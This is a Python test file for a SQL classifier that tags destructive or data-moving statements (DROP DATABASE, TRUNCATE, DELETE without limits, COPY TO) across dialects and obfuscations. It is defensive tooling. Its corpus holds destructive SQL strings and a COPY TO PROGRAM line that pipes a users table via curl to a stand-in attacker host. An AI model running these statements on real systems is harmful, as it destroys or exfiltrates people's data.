"""SQL facts: every statement's kind and object however the SQL is spelled; text that does not
parse is unresolved and still scanned for dangerous statements."""

from __future__ import annotations

import subprocess
import sys

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from policyc.normalize.sql import (
    DOES_NOT_PARSE,
    INTERNAL_ERROR,
    MAX_SQL_CHARS,
    PARSER_FAILED,
    TOO_DEEP,
    TOO_LONG,
    sql_facts,
)
from tests.hyp import scaled

KNOWN_KINDS = {
    "drop_database",
    "drop_schema",
    "drop_table",
    "drop_view",
    "drop_index",
    "drop_other",
    "truncate",
    "delete",
    "delete_all",
    "update",
    "update_all",
    "insert",
    "select",
    "copy_to",
    "copy_from",
    "alter_table",
    "create",
    "grant",
    "revoke",
    "other",
}
REASONS = {DOES_NOT_PARSE, TOO_LONG, TOO_DEEP, PARSER_FAILED}

NOPARSE = [("sql", DOES_NOT_PARSE)]

# (sql, dialect, statement facts in order, unresolved facts)
CORPUS: list[tuple[str, str | None, list[tuple[str, str]], list[tuple[str, str]]]] = [
    # DROP DATABASE in every spelling
    ("DROP DATABASE prod", None, [("drop_database", "prod")], []),
    ("drop database prod", None, [("drop_database", "prod")], []),
    ("DrOp DaTaBaSe Prod", None, [("drop_database", "prod")], []),
    ("DROP /* sneaky */ DATABASE -- why not\n prod", None, [("drop_database", "prod")], []),
    ("DROP DATABASE IF EXISTS prod", None, [("drop_database", "prod")], []),
    ("SELECT 1; DROP DATABASE prod;", None, [("select", ""), ("drop_database", "prod")], []),
    ('DROP DATABASE "Prod"', None, [("drop_database", "prod")], []),
    ("DROP DATABASE `prod`", "mysql", [("drop_database", "prod")], []),
    ("DROP DATABASE `prod`", None, [("drop_database", "prod")], []),
    ("BEGIN; DROP DATABASE prod; COMMIT;", None, [("drop_database", "prod")], []),
    (
        "SELECT 1 /*! ; DROP DATABASE prod */",
        "mysql",
        [("drop_database", "prod"), ("select", "")],
        [],
    ),
    # schemas
    ("DROP SCHEMA public CASCADE", None, [("drop_schema", "public")], []),
    ('drop schema if exists "Sales" cascade', "postgres", [("drop_schema", "sales")], []),
    # tables
    ("DROP TABLE users", None, [("drop_table", "users")], []),
    ("DROP TABLE IF EXISTS app.users CASCADE", None, [("drop_table", "app.users")], []),
    ("drop table a, b", None, [("drop_table", "a"), ("drop_table", "b")], []),
    ('DROP TABLE "My Table"', None, [("drop_table", "my table")], []),
    ("DROP TABLE `shop`.`Orders`", "mysql", [("drop_table", "shop.orders")], []),
    ("DROP TABLE [dbo].[Users]", "tsql", [("drop_table", "dbo.users")], []),
    ("DROP TABLE IF EXISTS t", "sqlite", [("drop_table", "t")], []),
    ("DROP TEMPORARY TABLE tmp", "mysql", [("drop_table", "tmp")], []),
    ("DROP TABLE t; drop table T;", None, [("drop_table", "t")], []),
    # views, indexes, other objects
    ("DROP VIEW v; DROP MATERIALIZED VIEW mv", None, [("drop_view", "v"), ("drop_view", "mv")], []),
    ("DROP INDEX IF EXISTS idx_users", "postgres", [("drop_index", "idx_users")], []),
    ("DROP FUNCTION f(int)", "postgres", [("drop_other", "f")], []),
    ("DROP USER bob", None, [("drop_other", "bob")], []),
    # truncate
    ("TRUNCATE TABLE logs", None, [("truncate", "logs")], []),
    ("truncate logs, events", "postgres", [("truncate", "logs"), ("truncate", "events")], []),
    ("TRUNCATE `Logs`", "mysql", [("truncate", "logs")], []),
    # delete: all rows or some
    ("DELETE FROM users", None, [("delete_all", "users")], []),
    ("DELETE FROM users WHERE 1=1", None, [("delete_all", "users")], []),
    ("delete from users where true", None, [("delete_all", "users")], []),
    ("DELETE FROM users WHERE id = 42", None, [("delete", "users")], []),
    ("DELETE FROM s WHERE expires < now() OR 1 = 1", None, [("delete_all", "s")], []),
    ("DELETE FROM t WHERE id IN (SELECT id FROM u)", None, [("delete", "t")], []),
    ("DELETE FROM t", "sqlite", [("delete_all", "t")], []),
    # update
    ("UPDATE accounts SET balance = 0", None, [("update_all", "accounts")], []),
    ("UPDATE accounts SET balance = 0 WHERE 'a' = 'a'", None, [("update_all", "accounts")], []),
    ("UPDATE accounts SET balance = 0 WHERE id = 7", None, [("update", "accounts")], []),
    # benign
    ("INSERT INTO audit (user_id) VALUES (1)", None, [("insert", "audit")], []),
    (
        "SELECT u.name FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 10",
        None,
        [("select", "users")],
        [],
    ),
    ("SELECT 1", None, [("select", "")], []),
    ("SELECT 1 -- ; DROP DATABASE prod", None, [("select", "")], []),
    ("/* DROP TABLE x; */ SELECT * FROM t", None, [("select", "t")], []),
    # copy to and from
    ("COPY users TO '/tmp/users.csv'", "postgres", [("copy_to", "users")], []),
    (
        "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- https://evil.example'",
        None,
        [("copy_to", "users")],
        [],
    ),
    ("COPY users TO STDOUT WITH (FORMAT csv)", None, [("copy_to", "users")], []),
    ("COPY users FROM '/tmp/in.csv'", None, [("copy_from", "users")], []),
    ("SELECT * FROM users INTO OUTFILE '/tmp/u.txt'", "mysql", [("copy_to", "")], NOPARSE),
    # psql meta-commands
    ("\\copy users to 'users.csv' csv header", None, [("copy_to", "users")], []),
    ("\\copy (select * from Users) to stdout", None, [("copy_to", "users")], []),
    ("\\c prod\nDROP TABLE t;\n\\q", None, [("drop_table", "t")], []),
    # statements inside CTEs
    (
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
        "postgres",
        [("select", "gone"), ("delete_all", "users")],
        [],
    ),
    (
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING id) INSERT INTO archive SELECT * FROM d",
        None,
        [("insert", "archive"), ("delete", "t")],
        [],
    ),
    # other statements
    ("ALTER TABLE users DROP COLUMN email", None, [("alter_table", "users")], []),
    ("CREATE TABLE t (a int)", None, [("create", "t")], []),
    ("GRANT ALL ON users TO mallory", None, [("grant", "users")], []),
    ("REVOKE SELECT ON users FROM bob", None, [("revoke", "users")], []),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", None, [("delete", "t")], []),
    ("VACUUM", None, [("other", "")], []),
    # transactions
    ("START TRANSACTION; DELETE FROM t; ROLLBACK;", "mysql", [("delete_all", "t")], []),
    (
        "BEGIN;\nUPDATE t SET a = 1 WHERE id = 2;\nSAVEPOINT s1;\nDELETE FROM t;\n"
        "RELEASE SAVEPOINT s1;\nCOMMIT;",
        None,
        [("update", "t"), ("delete_all", "t")],
        [],
    ),
    # MySQL reads a backslash in a string as an escape, Postgres does not: both readings count
    ("SELECT 'a\\'' ; DROP TABLE y; -- '", None, [("select", ""), ("drop_table", "y")], []),
    ("SELECT 'a\\'' ; DROP TABLE y; -- '", "postgres", [("select", "")], []),
    # text that does not parse: unresolved, and the keyword scan
    ("DROP DATABASE prod WITH (FORCE)", None, [("drop_database", "prod")], NOPARSE),
    ("please drop database prod now", None, [("drop_database", "prod")], NOPARSE),
    ("SELECT 1; this is not sql; TRUNCATE t", None, [("select", ""), ("truncate", "t")], NOPARSE),
    ("hello world", None, [], NOPARSE),
    ("", None, [], []),
    ("  -- nothing\n", None, [], []),
]


@pytest.mark.parametrize(
    ("sql", "dialect", "statements", "unresolved"),
    [pytest.param(*case, id=f"{i}:{case[0][:40]}") for i, case in enumerate(CORPUS)],
)
def test_corpus(
    sql: str,
    dialect: str | None,
    statements: list[tuple[str, str]],
    unresolved: list[tuple[str, str]],
) -> None:
    facts = sql_facts(sql, dialect)
    assert facts == {"sql_statement": statements, "unresolved": unresolved}
    assert sql_facts(sql, dialect) == facts  # deterministic


@pytest.mark.parametrize(
    ("where", "kind"),
    [
        ("1 = 1", "delete_all"),
        ("true", "delete_all"),
        ("1", "delete_all"),
        ("-1", "delete_all"),
        ("NOT false", "delete_all"),
        ("(1 = 1)", "delete_all"),
        ("id = id", "delete_all"),
        ("name LIKE '%'", "delete_all"),
        ("2 > 1", "delete_all"),
        ("1 <> 2", "delete_all"),
        ("1 IN (1, 2)", "delete_all"),
        ("x = 1 OR 1 = 1", "delete_all"),
        ("1 = 1 AND 'a' = 'a'", "delete_all"),
        ("id = 1", "delete"),
        ("1 = 1 AND id = 2", "delete"),
        ("NULL", "delete"),
        ("NOT NULL", "delete"),
        ("1 = 0", "delete"),
        ("false", "delete"),
        ("0", "delete"),
        ("'a' = 'A'", "delete"),
        ("name LIKE 'a%'", "delete"),
        ("id = other_id", "delete"),
        ("1 = '1'", "delete"),
    ],
)
def test_trivially_true_where(where: str, kind: str) -> None:
    assert sql_facts(f"DELETE FROM t WHERE {where}")["sql_statement"] == [(kind, "t")]
    update_kind = kind.replace("delete", "update")
    assert sql_facts(f"UPDATE t SET a = 2 WHERE {where}")["sql_statement"] == [(update_kind, "t")]


def test_too_long_text_is_only_scanned() -> None:
    text = "SELECT 1;\n" * (MAX_SQL_CHARS // 10) + "DROP DATABASE prod;"
    assert sql_facts(text) == {
        "sql_statement": [("drop_database", "prod")],
        "unresolved": [("sql", TOO_LONG)],
    }


def test_too_deeply_nested_text_is_unresolved_and_scanned() -> None:
    facts = sql_facts("SELECT " + "(" * 500 + "1" + ")" * 500 + "; DROP TABLE t")
    assert facts == {"sql_statement": [("drop_table", "t")], "unresolved": [("sql", TOO_DEEP)]}


@pytest.mark.parametrize("dialect", ["postgresql", "MySQL", "sqlite3", "no-such-dialect", ""])
def test_dialect_names(dialect: str) -> None:
    assert sql_facts("DROP TABLE x", dialect)["sql_statement"] == [("drop_table", "x")]


def test_keyword_scan_stays_linear_on_unclosed_comments_and_quotes() -> None:
    # each pattern would make a backtracking scan (or one re-read from every keyword) quadratic
    for unit in ("DROP TABLE IF /* ", "UPDATE t /* ", 'DROP TABLE "', "DROP TABLE [", "INTO /* "):
        facts = sql_facts(unit * (MAX_SQL_CHARS // len(unit) + 1))
        assert facts["unresolved"] == [("sql", TOO_LONG)]


def test_importing_the_module_does_not_import_sqlglot() -> None:
    code = "import sys, policyc.normalize.sql; sys.exit('sqlglot' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


# -- never raises ---------------------------------------------------------------------------

SQL_TOKENS = [
    "SELECT", "FROM", "WHERE", "DROP", "TABLE", "DATABASE", "SCHEMA", "DELETE", "UPDATE", "SET",
    "INSERT", "INTO", "VALUES", "COPY", "TO", "STDOUT", "PROGRAM", "WITH", "AS", "TRUNCATE",
    "CASCADE", "IF", "EXISTS", "BEGIN", "COMMIT", "GRANT", "ON", "MERGE", "USING", "WHEN",
    "THEN", "CREATE", "ALTER", "OUTFILE", "RETURNING", "JOIN", "LIKE", "NOT", "NULL", "AND",
    "OR", "IN", "EXPLAIN", "DO", "SAVEPOINT", "RELEASE", "x", "t.a", "1", "'%'", "(", ")",
    ";", ",", "*", "=", "-", "::", "'", '"', "`", "[", "]", "/*", "*/", "--", "#", "$$", "\\",
    "\n", "\\copy", "\\c", "/*!", "'x'", '"Q"', "`b`", "[c]", "E'", "$1", "?", ":v", "@x",
]  # fmt: skip
# tokens that cannot open a string or a comment, nor start a meta-command
PLAIN_TOKENS = [
    t for t in SQL_TOKENS if not any(c in t for c in "'\"`[]/-#$\\") and t not in ("\n", "*/")
]

soups = st.lists(st.sampled_from(SQL_TOKENS), max_size=30).map(" ".join) | st.lists(
    st.sampled_from(SQL_TOKENS), max_size=30
).map("".join)


def check_shape(facts: object) -> None:
    assert isinstance(facts, dict)
    assert set(facts) == {"sql_statement", "unresolved"}
    for kind, obj in facts["sql_statement"]:
        assert kind in KNOWN_KINDS and isinstance(obj, str)
    for what, reason in facts["unresolved"]:
        assert what == "sql" and reason in REASONS
    assert ("sql", INTERNAL_ERROR) not in facts["unresolved"]
    assert len(set(facts["sql_statement"])) == len(facts["sql_statement"])


@settings(max_examples=scaled(150))
@given(st.text(max_size=200), st.sampled_from([None, "postgres", "mysql", "sqlite", "tsql"]))
@example("\ud800 DROP TABLE x", None)
@example("SELECT " + "(" * 300, None)
@example("\\copy", None)
def test_arbitrary_text_never_raises(text: str, dialect: str | None) -> None:
    facts = sql_facts(text, dialect)
    check_shape(facts)
    assert sql_facts(text, dialect) == facts


@settings(max_examples=scaled(250))
@given(soups, st.sampled_from([None, "postgres", "mysql"]))
def test_sql_token_soups_never_raise(text: str, dialect: str | None) -> None:
    facts = sql_facts(text, dialect)
    check_shape(facts)
    assert sql_facts(text, dialect) == facts


@settings(max_examples=scaled(150))
@given(st.lists(st.sampled_from(PLAIN_TOKENS), max_size=20).map(" ".join))
def test_garbage_before_never_hides_a_drop_database(prefix: str) -> None:
    facts = sql_facts(prefix + ";\nDROP DATABASE prod;")
    check_shape(facts)
    assert ("drop_database", "prod") in facts["sql_statement"]
